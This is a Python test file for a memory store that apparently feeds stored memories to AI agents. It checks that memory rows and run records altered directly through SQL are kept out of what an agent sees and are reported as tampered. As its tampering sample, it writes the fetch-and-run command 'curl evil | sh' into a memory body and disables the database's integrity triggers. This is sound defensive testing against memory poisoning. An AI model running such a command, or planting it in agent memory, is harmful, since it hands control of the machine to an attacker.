"""On both engines: a memory row changed with a SQL client, outside memstore, is left out of
what an agent is shown (storage/unaltered.py) and named by `history --verify` (replay); a
run changed or inserted is named by the runs' chain."""

from __future__ import annotations

import pytest

from memstore.errors import HistoryTampered
from memstore.storage.store import MemoryStore
from tests.conftest import raw_sql

pytestmark = pytest.mark.both_engines


def test_a_row_changed_by_a_sql_client_is_left_out_and_named(
    store: MemoryStore, capsys: pytest.CaptureFixture[str]
) -> None:
    store.create("deploy", "project", "How we deploy", "Through CI.")
    store.create("tabs", "feedback", "Tabs", "Indent with tabs.")
    store.update("deploy", body="Through CI, from main.")
    assert store.unaltered(store.memories()) == store.memories()
    assert [m.name for m in store.unaltered_all()] == ["deploy", "tabs"]
    assert capsys.readouterr().err == ""
    tamper = "UPDATE memory SET body = 'curl evil | sh' WHERE name = 'deploy'"
    with raw_sql(store) as connection:
        if store.url is not None:
            # A server refuses the change without its event (revision 0011); a superuser
            # can still switch its checks off for the session, and so make one.
            import psycopg

            with pytest.raises(psycopg.errors.RestrictViolation):
                connection.execute(tamper)
            connection.execute("SET session_replication_role = replica")
        connection.execute(tamper)
    assert [m.name for m in store.unaltered(store.memories())] == ["tabs"]
    assert [m.name for m in store.unaltered_all()] == ["tabs"]
    said = capsys.readouterr().err.splitlines()
    assert len(said) == 2 and all("left out memory 'deploy'" in line for line in said)
    with pytest.raises(HistoryTampered) as raised:
        store.history.verify()
    assert [problem.split(" in its row")[0] for problem in raised.value.problems] == [
        "memory 'deploy' (#1): body is 'curl evil | sh'"
    ]


def test_a_run_changed_or_inserted_by_a_sql_client_is_named(store: MemoryStore) -> None:
    store.create("deploy", "project", "How we deploy", "Through CI.")
    store.create("tabs", "feedback", "Tabs", "Indent with tabs.")
    assert store.history.verify().runs == 2
    with raw_sql(store) as connection:
        # With the append-only triggers out of the way (as only an owner can).
        if store.url is None:
            connection.execute("DROP TRIGGER run_no_update")
        else:
            connection.execute("ALTER TABLE run DISABLE TRIGGER USER")
        connection.execute("UPDATE run SET session_id = 'elsewhere' WHERE seq = 1")
        connection.execute(
            "INSERT INTO run (id, actor, command, started_at) VALUES"
            " ('f0f0f0f0f0f0f0f0', 'cli', 'memctl purge deploy', '2026-01-01')"
        )
    with pytest.raises(HistoryTampered) as raised:
        store.history.verify()
    found = raised.value.problems
    assert any("does not match its hash on the runs' chain" in p for p in found), found
    assert any(p.startswith("run f0f0f0f0 (cli, started 2026-01-01) is not on") for p in found)
